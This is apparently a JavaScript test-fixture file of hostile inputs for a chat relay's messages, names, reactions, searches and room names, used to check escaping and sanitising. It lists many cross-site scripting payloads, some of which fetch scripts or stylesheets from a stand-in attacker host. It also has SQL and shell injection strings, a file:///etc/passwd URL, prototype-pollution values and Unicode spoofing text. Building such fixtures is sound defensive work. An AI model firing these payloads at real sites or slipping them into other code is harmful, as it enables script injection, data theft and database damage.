// Hostile texts for messages, names, titles, reactions and searches. A text that a page executes calls `canary`,
// a function of each page under test, or requests something from evil.invalid.

const NUL = String.fromCharCode(0);
const code = (...points) => String.fromCodePoint(...points);

/** Directional formatting: left-to-right and right-to-left embeddings, overrides and isolates, and the characters that end them. */
const [LRE, RLE, PDF, LRO, RLO] = [0x202a, 0x202b, 0x202c, 0x202d, 0x202e].map((point) => code(point));
const [LRI, RLI, FSI, PDI] = [0x2066, 0x2067, 0x2068, 0x2069].map((point) => code(point));
const [ZWSP, ZWNJ, ZWJ, BOM, SHY] = [0x200b, 0x200c, 0x200d, 0xfeff, 0xad].map((point) => code(point));

/** Letters under heaps of combining marks. */
const zalgo = (text, marks) =>
  [...text].map((letter, i) => letter + code(0x300 + i, 0x320 + i).repeat(marks)).join('');

const markup = [
  '<script>canary()</script>',
  '<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>',
  '<img src=x onerror=canary()>',
  '<img src="https://evil.invalid/pixel.gif">',
  '<svg onload=canary()><circle r=9></svg>',
  '<svg><script>canary()</script></svg>',
  '<svg><animate onbegin=canary() attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=canary()>#x"/></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:canary()">x</maction></math>',
  '<math><mtext><table><mglyph><style><!--</style><img src onerror=canary()>',
  '<iframe srcdoc="<script>parent.canary()</script>"></iframe>',
  '<iframe src="javascript:parent.canary()"></iframe>',
  '<object data="https://evil.invalid/x"></object><embed src="https://evil.invalid/y">',
  '<link rel=stylesheet href=https://evil.invalid/x.css><style>@import "https://evil.invalid/y.css";*{display:none}</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.invalid/">',
  '<base href="https://evil.invalid/"><a href=x>x</a>',
  '<form action=https://evil.invalid/><input autofocus onfocus=canary()><button>x</button></form>',
  '<details open ontoggle=canary()>x</details>',
  '<video><source onerror=canary()></video><audio src=x onerror=canary()>',
  '<template shadowrootmode=open><script>canary()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=canary()>">',
  '<hallway-chat relay="https://evil.invalid" room="x"></hallway-chat><slot name=x></slot>',
  '<li data-id="x" data-seq="1" data-state="sent">a message that is none</li>',
  '</div></li></ul></div><h1>out of the box</h1>',
  '<!--><img src=x onerror=canary()>-->',
  '<![CDATA[<script>canary()</script>]]>',
  '"><img src=x onerror=canary()>',
  "' onmouseover='canary()' x='",
  '" style="position:fixed;inset:0;background:red" "',
  '` onfocus=canary() autofocus tabindex=0 `',
  '&lt;img src=x onerror=canary()&gt; &#60;script&#62;canary()&#x3c;/script&#x3e;',
  '%3Cscript%3Ecanary()%3C%2Fscript%3E +ADw-script+AD4-canary()+ADw-/script+AD4-',
  '\\u003cscript\\u003ecanary()\\u003c/script\\u003e \\x3cimg src onerror=canary()\\x3e',
  '*<b onclick=canary()>* _<i>x</i>_ `<code onclick=canary()>` ```<pre onclick=canary()>\n</pre>```',
  `<scr${NUL ? ZWSP : ''}ipt>canary()</scr${ZWJ}ipt> <ſcript>canary()</ſcript> ＜script＞canary()＜/script＞`,
];

const addresses = [
  'javascript:canary()',
  'JaVaScRiPt:canary()',
  'java\tscript:canary()',
  'java\nscript:canary()',
  ' javascript:canary()',
  'javascript&colon;canary() javascript&#58;canary() &#106avascript:canary()',
  'javascript://https://example.org/%0acanary()',
  'data:text/html,<script>canary()</script>',
  'data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==',
  'vbscript:canary() livescript:canary() mocha:canary() blob:https://evil.invalid/x filesystem:https://evil.invalid/x',
  'file:///etc/passwd view-source:https://evil.invalid about:blank ftp://evil.invalid',
  'https:javascript:canary() http:\\\\evil.invalid https:/evil.invalid',
  'https://javascript:canary()@evil.invalid/',
  'https://example.org/"onmouseover="canary() https://example.org/\'><img src=x onerror=canary()>',
  'https://example.org/<script>canary()</script>',
  'https://user:password@evil.invalid/ https://example.org@evil.invalid/',
  'mailto:ada@example.org?subject=<script>canary()</script>&body=javascript:canary()',
  'mailto:javascript:canary()',
  `https://example.org/${RLO}gpj.exe https://gro${PDI}.elpmaxe https://example${ZWSP}.org`,
  'https://аррӏе.com/ https://xn--80ak6aa92e.com/ https://exаmple.org',
  '[x](javascript:canary()) ![x](https://evil.invalid/x.png) <javascript:canary()> [x]: javascript:canary()',
  `https://example.org/${'a'.repeat(5000)}`,
  '//evil.invalid/x.js www.evil.invalid evil.invalid',
  'https://[::1]:1/ https://127.0.0.1:1/ https://0x7f.1/ https://%65vil.invalid/',
];

const invisible = [
  `${RLO}txet desrever${PDF} and what follows`,
  `${RLI}${RLO}${LRE}${RLE}${LRO}${FSI}${LRI} left open`,
  `${RLI}left open\nover${RLO} several\nlines`,
  `${PDI}${PDI}${PDF}${PDF} closed too often`,
  `a${ZWSP}b${ZWNJ}c${ZWJ}d${BOM}e${SHY}f`,
  `${ZWSP.repeat(300)}x${ZWJ.repeat(300)}`,
  `${code(0x3164, 0xffa0, 0x115f, 0x2800)} looks empty`,
  `${code(0xe0001, 0xe0041, 0xe0042, 0xe007f)}tags ${code(0xfff9)}annotated${code(0xfffa)}with${code(0xfffb)}`,
  `${code(0xfdd0, 0xfffe, 0xffff, 0x1fffe, 0x10ffff)} no characters`,
  `${code(0x2028)}line${code(0x2029)}paragraph${code(0x85)}`,
  `${code(0x600, 0x6dd, 0x70f)} ${code(0xfdfd).repeat(40)}`,
  `${code(0x1f1e6)}${code(0x1f468, 0x200d, 0x1f469, 0x200d, 0x1f467).repeat(50)}${code(0xfe0f).repeat(50)}`,
]
  .filter((text) => !text.includes('\u0085'))
  .concat(`${code(0x2028)}line${code(0x2029)}paragraph`);

const huge = [
  zalgo('HE COMES', 60),
  `a${code(0x489, 0x20dd, 0x20e3).repeat(400)}`,
  'W'.repeat(8192),
  '字'.repeat(2730),
  'ا'.repeat(4000),
  `${'\n'.repeat(4000)}the end`,
  Array.from({ length: 1500 }, (_, i) => `${i}`).join('\n'),
  '`'.repeat(4000),
  '*_'.repeat(4000),
  `\`\`\`\n${'x '.repeat(3000)}\n\`\`\``,
  `${'('.repeat(3000)}https://example.org/${')'.repeat(3000)}`,
  'https://e.x/ '.repeat(600),
  code(0x1f600).repeat(2000),
  `\t${'\t'.repeat(2000)}x`,
  `${'&nbsp;'.repeat(500)}${code(0xa0).repeat(2000)}x`,
  `${code(0x12219)}${code(0xa9c5).repeat(300)}${code(0x1242b).repeat(300)}`,
];

const languages = [
  // biome-ignore lint/suspicious/noTemplateCurlyInString: other languages of templates have this form
  '{{constructor.constructor("canary()")()}} ${canary()} <%= canary() %> #{canary()} {%raw%} [[canary()]] ng-init="canary()"',
  '__proto__ constructor prototype hasOwnProperty toString valueOf',
  '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}',
  '\'; DROP TABLE messages; -- " OR 1=1 /* */ UNION SELECT * FROM sqlite_master',
  'text:secret OR NEAR(a b, 1) "unbalanced AND NOT * ^x {y} docid:1 -z',
  '%s %n %d %x {0} {name} {text} $& $1 \\0',
  '\\ud800 \\u0000 \\',
  '() { :; }; canary $(canary) `canary` | canary',
  'color:red;position:fixed;inset:0 expression(canary()) -moz-binding:url(//evil.invalid/x) behavior:url(#x)',
  '}*{display:none}:host{display:none} @import "//evil.invalid/x.css"; url(javascript:canary()) \\3c b\\3e --x:{}',
  'null undefined NaN Infinity -0 1e999 true [] {} ""',
];

/** Texts of messages that the relay accepts. */
export const TEXTS = [...markup, ...addresses, ...invisible, ...huge, ...languages];

/** Hostile names, of at most 128 bytes and without control characters. */
export const NAMES = [
  '<img src=x onerror=canary()>',
  '"><svg onload=canary()>',
  "' onmouseover=canary() '",
  'javascript:canary()',
  `${RLO}rezinagro`,
  `Organizer${RLI}${RLO}`,
  `Ada${ZWSP}`,
  'Аdа', // Cyrillic
  `Ben ${code(0x2705)} Organizer`,
  zalgo('Ada', 12),
  'W'.repeat(120),
  '{name} {text} $& {n}',
  '__proto__',
  code(0x3164),
  'אורגנייזר (Organizer)',
];

/**
 * Returns a name as the chat shows it: on one line, without characters that are invisible or set directions. A name without a visible
 * character becomes empty.
 */
export function kept(name) {
  let clean = '';
  for (const c of name) {
    const stays = /[\u0600-\u0605\u061c\u06dd\u070f\u200c-\u200f\u{e0020}-\u{e007f}]/u; // visible ones, and ones that shape or order letters
    const unseen = /[\p{Cf}\u2800\u3164\uffa0\u115f\u1160\ufff0-\ufffb\ufffd]|\p{Noncharacter_Code_Point}/u;
    if (unseen.test(c) && !stays.test(c)) continue;
    if (!/[\p{Cc}\u2028\u2029]/u.test(c)) clean += c;
    else if (!/(^|\s)$/.test(clean)) clean += ' ';
  }
  return /^[\p{M}\p{Z}\p{Cf}\u2800\u3164\uffa0\u115f\u1160]*$/u.test(clean) ? '' : clean.trim();
}

/** Returns the name as a relay stores it. */
export const KEPT_NAMES = NAMES.map(kept);

/** Returns a text without markup as the chat shows it: with the hosts that could be mistaken for others in Punycode. */
export const shown = (text) =>
  text.replace('//аррӏе.com', '//xn--80ak6aa92e.com').replace('//exаmple.org', '//xn--exmple-4nf.org');

/** Hostile user ids. */
export const USERS = [
  '<img src=x onerror=canary()>',
  '__proto__',
  'constructor',
  '../../admin?x=1#y',
  '%2e%2e%2f',
  'a/b\\c',
  '"\'`;--',
  '*',
  `${RLO}nimda`,
  '字',
  ' ',
];

/** Hostile reactions: 1–64 bytes without white space. */
export const REACTIONS = [
  '<img/src/onerror=canary()>',
  '"><svg/onload=canary()>',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  `${RLO}abc`,
  `a${code(0x489).repeat(20)}`,
  'W'.repeat(64),
  '👨‍👩‍👧‍👦',
  'javascript:canary()',
  '{name}{text}',
  "');--",
  `x${ZWJ}y`,
];

/** Words to search for. */
export const SEARCHES = [
  '<script>canary()</script>',
  '" OR 1=1 --',
  '"unbalanced',
  'a* OR b* NEAR/3 c',
  'text:x AND (NOT y)',
  'docid:1 -x ^y',
  "'; DROP TABLE search; --",
  '*',
  '""',
  '%_\\',
  `${RLO}desrever`,
  zalgo('HE COMES', 3),
  '__proto__',
  'W'.repeat(256),
  'a b c d e f g h i j k l m n o p q r s t u v w x y z',
  '字字',
  'canary',
  'example',
];

/** Allowed names of rooms that have a special meaning elsewhere. */
export const ROOMS = [
  '__proto__',
  'constructor',
  'a..b',
  'A~-._:',
  'x:y:z',
  'toString',
  '0',
  'con.aux',
  'W'.repeat(128),
].map((room) => (/^[A-Za-z0-9]/.test(room) ? room : `0${room}`));

/** Names of rooms that a relay refuses. */
export const BAD_ROOMS = [
  '__proto__',
  '..',
  '.',
  '%2e%2e',
  'a%2fb',
  'a%00b',
  '<b>',
  "a'b",
  'a%20b',
  '%ff',
  'é',
  `a${'b'.repeat(128)}`,
];

/** Bodies of a post that a relay refuses, because the text is not allowed or is not a text. */
export const BAD_TEXTS = [
  `"${'\\u0000'}"`,
  '"a\\u0000b"',
  '"\\ud800"',
  '"\\udc00\\ud800"',
  '"\\u001b[31mred"',
  '"\\u0007"',
  '"\\u0085"',
  '"\\u007f"',
  '"\\r\\n"',
  '"   \\n\\t "',
  '""',
  'null',
  '{"toString":1}',
  '["<b>"]',
];
